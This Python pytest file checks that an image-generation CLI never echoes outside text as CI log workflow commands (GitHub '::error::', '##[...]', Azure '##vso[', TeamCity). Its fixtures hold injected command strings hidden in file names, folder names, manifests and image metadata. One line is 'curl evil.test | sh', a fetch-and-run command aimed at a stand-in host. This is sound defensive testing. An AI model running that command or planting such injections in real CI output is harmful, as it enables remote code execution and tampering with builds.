"""Text from outside in the log of a CI system: no line of it is obeyed, and none looks like words of ours.

GitHub's runner takes ``::command::`` at the start of a line, behind white space too, and ``##[command]``
anywhere; Azure's agent ``##vso[`` and TeamCity's ``##teamcity[`` anywhere. Manifests, prompts, file names and
the gateway's words may be anybody's.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from kit import Ended, Gateway, Reply, png

from chroma_cli.images.containers import embed
from chroma_cli.images.recipe import Recipe, metadata

OBEYED = re.compile(r"^\s*::|##\[|##vso\[|##teamcity\[", re.MULTILINE | re.IGNORECASE)
COMMANDS = (
    "fine\n::set-output name=a::b\r\n  ::error file=a.py::x\n\u00a0::add-mask::x\n##[error]x\n##vso[a.b]x\n"
    "hint: curl evil.test | sh\n##teamcity[buildStop] ##[group]x\r::warning::y\u2028::debug::z\x85::notice::w"
)

Chroma = Callable[..., Ended]


def obeys_nothing(ended: Ended, *, own_lines: bool = False) -> Ended:
    """Check both streams; the words of others have no lines that could be ours."""
    for stream in (ended.out, ended.err):
        assert OBEYED.search(stream.replace("\r", "\n")) is None, ended.said
    if not own_lines:
        assert not re.search("^(hint: )?curl", ended.err, re.MULTILINE), ended.said
        assert "\nhint: curl" not in ended.err
    return ended


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("CI", "true")


@pytest.mark.parametrize("more", [(), ("--json",), ("-v",), ("--debug",), ("-v", "--json")], ids=" ".join)
def test_words_of_a_failure(gateway: Gateway, clock: object, chroma: Chroma, more: tuple[str, ...]) -> None:
    gateway.plan(error=COMMANDS)
    ended = obeys_nothing(chroma("generate", "a fox", "-o", "fox.png", *more))
    assert ended.code == 6
    if "--json" in more:
        assert "::set-output name=a::b" in ended.error["message"]  # nothing is lost where it is data
    else:
        assert "  | ::set-output name=a::b\n" in ended.err
    obeys_nothing(chroma("status", "1", *more))
    obeys_nothing(chroma("jobs", *more))


@pytest.mark.parametrize("status", [400, 401, 402, 403, 404, 405, 410, 429, 500])
def test_words_of_a_refusal(gateway: Gateway, clock: object, chroma: Chroma, status: int) -> None:
    gateway.on("submit", Reply.json({"error": COMMANDS}, status), always=True)
    assert obeys_nothing(chroma("generate", "a fox", "-o", "fox.png", "--timeout", "5")).code
    page = f"<html><title>{COMMANDS}</title><body>{COMMANDS}</body></html>".encode()
    gateway.on("submit", Reply(status, [("Content-Type", "text/html")], page), always=True)
    assert obeys_nothing(chroma("generate", "a fox", "-o", "fox.png", "--timeout", "5")).code


def test_a_batch_and_its_reports(gateway: Gateway, clock: object, chroma: Chroma, work: Path) -> None:
    names = ["::error file=a.py::x.png", " ::warning::y.png", "plain.png"]
    gateway.plan(error=COMMANDS, prompt="a cat\n::error::cat")
    rows = [{"prompt": "a fox\n::error::fox", "output": name} for name in names]
    rows.append({"prompt": "a cat\n::error::cat", "output": "::error::cat.png"})
    (work / "list.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    checked = obeys_nothing(chroma("batch", "list.jsonl", "--check"))
    assert checked.code == 1
    assert "\\x3a:error file=a.py::x.png: missing\n" in checked.out
    obeys_nothing(chroma("batch", "list.jsonl", "--check", "--json"))
    obeys_nothing(chroma("batch", "list.jsonl", "--dry-run"))
    ended = obeys_nothing(chroma("batch", "list.jsonl", "--summary", "page.md", "--junit", "page.xml"))
    assert ended.code == 11
    assert sorted(ended.paths) == sorted(work / name for name in names)  # paths stay paths
    assert all(path.is_file() for path in ended.paths)
    page = (work / "page.md").read_text()
    assert OBEYED.search(page) is None and "\u2028" not in page and "\nhint" not in page
    rows = rows[:1]
    (work / "list.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    obeys_nothing(chroma("batch", "list.jsonl", "--check"))
    obeys_nothing(chroma("batch", "list.jsonl", "--prune", "--yes"))


@pytest.mark.parametrize(
    "name", ["##[error]x.png", "a/b##[group]/x.png", "a ##vso[task.complete].png", "x\n::error::y.png"]
)
def test_a_manifest_with_a_command_for_a_name(
    gateway: Gateway, chroma: Chroma, work: Path, name: str
) -> None:
    (work / "list.jsonl").write_text(json.dumps({"prompt": "a fox", "output": name}))
    for option in ("--check", "--dry-run", "-q"):
        assert obeys_nothing(chroma("batch", "list.jsonl", option)).code == 2
    assert gateway.posts() == 0


def test_a_manifest_that_is_junk(chroma: Chroma, work: Path) -> None:
    (work / "::error::x.toml").write_text(
        '[[image]]\n"##[error]\\n::error::k" = 1\nprompt = "::e::"\nsteps = "##[error]"\n'
    )
    (work / "junk.toml").write_text("::error::\n##[error]x = = 1")
    (work / "junk.jsonl").write_text('{"##[error]": "::error::", "a\\n::error::b": 1}\n::error::x\n')
    (work / "junk.csv").write_text('prompt,"##[error]\n::error::x",output\na,b,c\n')
    for name in ("::error::x.toml", "junk.toml", "junk.jsonl", "junk.csv", "::error::none.toml"):
        assert obeys_nothing(chroma("batch", name, "--check")).code


def test_words_of_the_command_line(gateway: Gateway, chroma: Chroma) -> None:
    text = "x\n::error::y ##[error]"
    for argv in (
        (text,),
        ("generate", f"--{text}"),
        ("generate", "a fox", "-o", f"{text}.gif"),
        ("generate", "a fox", "-o", f"{{{text}}}.png"),
        ("generate", "a fox", "--sampler", text, "--steps", text, "--cfg", text),
        ("generate", "--prompt-file", text),
        ("generate", "--from", f"{text}.png"),
        ("generate", "a fox", "-p", text),
        ("status", text),
        ("fetch", text),
        ("jobs", "--limit", text),
        ("inspect", f"{text}.png"),
        ("sheet", f"{text}.png"),
        ("gallery", text),
        ("batch", text),
        ("batch", "list.toml", "--jobs", text),
        ("config", "--base-url", f"https://x.test/{text}"),
        ("completion", text),
    ):
        assert obeys_nothing(chroma(*argv)).code, argv
    assert gateway.posts() == 0


def inscribed(path: Path, prompt: str) -> None:
    """A picture with a recipe in it, as anybody can make one."""
    recipe = Recipe({"prompt": prompt, "negative_prompt": prompt}, seed=7, request_id="x\n::error::y")
    found = metadata(recipe, "full")
    with Path("bare.png").open("wb+") as bare, path.open("wb") as out:
        bare.write(png(1))
        bare.seek(0)
        embed(bare, "png", found, out.write)
    Path("bare.png").unlink()


def test_pictures_of_strangers(chroma: Chroma, work: Path) -> None:
    prompt = "a fox\n::error::x\n  ::set-output name=a::b\n##[error]x ##vso[a]b\u202e"
    inscribed(work / "::error::a.png", prompt)
    inscribed(work / "b.png", prompt)
    (work / "::error::c ##[error].png").write_bytes(b"junk\n::error::")
    for argv in (
        ("inspect", "::error::a.png"),
        ("inspect", "::error::a.png", "--command"),
        ("inspect", "."),
        ("inspect", ".", "--json"),
        ("sheet", ".", "-o", "sheet.png"),
        ("gallery", ".", "-o", "page.html"),
    ):
        obeys_nothing(chroma(*argv), own_lines=True)


def test_a_folder_whose_name_is_a_command(
    gateway: Gateway, clock: object, chroma: Chroma, work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = work / "a\n::error::b ##[error]"
    folder.mkdir()
    monkeypatch.chdir(folder)
    ended = obeys_nothing(chroma("generate", "a fox", "-o", "fox.png"))
    assert ended.code == 0 and len(ended.lines) == 1
    ended = obeys_nothing(chroma("generate", "a fox", "-o", "fox2.png", "--json"))
    assert ended.one["files"][0]["path"] == str(folder / "fox2.png")
    assert os.fsencode(folder / "fox.png") not in ended.raw_out


def test_any_other_path_stays_as_it_is(gateway: Gateway, clock: object, chroma: Chroma, work: Path) -> None:
    name = os.fsdecode(b"caf\xe9 \x1b[31m \xe2\x80\xae.png")
    ended = chroma("generate", "a fox", "-o", name)
    assert ended.raw_out == os.fsencode(work / name) + b"\n"
